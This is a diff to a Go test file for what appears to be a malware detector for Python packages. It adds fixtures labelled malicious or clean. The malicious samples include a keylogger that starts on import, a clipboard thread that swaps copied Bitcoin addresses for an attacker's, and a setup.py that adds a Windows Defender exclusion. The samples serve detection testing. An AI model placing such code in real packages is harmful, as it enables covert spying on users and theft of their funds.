@@ -166,6 +166,15 @@ func TestPopularProjectShapes(t *testing.T) {
 			"import subprocess\nfrom setuptools import setup\nsubprocess.run(['powershell', '-Command', 'Add-MpPreference -ExclusionPath $env:APPDATA'], capture_output=True)\nsetup(name='p')\n"}, "defence-evasion", Malicious},
 		{"a Windows admin tool's command excluding its own folder when asked", map[string]string{"p/admin.py": "" +
 			"import subprocess\ndef exclude(folder):\n    subprocess.run(['powershell', '-Command', 'Add-MpPreference -ExclusionPath ' + folder], check=True)\n"}, "", Clean},
+		{"a keylogger started on import", map[string]string{"p/__init__.py": "" +
+			"from pynput import keyboard\nKEYS = []\nkeyboard.Listener(on_press=lambda k: KEYS.append(str(k))).start()\n"}, "spyware", Malicious},
+		{"a clipper swapping copied wallet addresses from a thread started on import", map[string]string{"p/__init__.py": "" +
+			"import re, threading, time, pyperclip\ndef watch():\n    while True:\n        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', pyperclip.paste()):\n" +
+			"            pyperclip.copy('bc1qexampleexampleexampleexample')\n        time.sleep(1)\nthreading.Thread(target=watch, daemon=True).start()\n"}, "spyware", Malicious},
+		{"a clipboard helper library's copy and paste functions", map[string]string{"p/clip.py": "" +
+			"import pyperclip\ndef swap_case():\n    pyperclip.copy(pyperclip.paste().swapcase())\n"}, "", Clean},
+		{"a screenshot tool uploading on demand", map[string]string{"p/shot.py": "" +
+			"import io, requests, pyautogui\ndef share(url):\n    buf = io.BytesIO()\n    pyautogui.screenshot().save(buf, 'PNG')\n    return requests.post(url, files={'f': buf.getvalue()})\n"}, "", Clean},
 		{"a CLI command telling the local IDE which link to open", map[string]string{"p/custom.py": "" +
 			"import os, requests\ndef browse(url):\n    term_id = os.environ.get('ACC_TERM_ID')\n    if term_id:\n" +
 			"        requests.post('http://localhost:8888/openLink/{0}'.format(term_id), json={'url': url})\n"}, "", Clean},
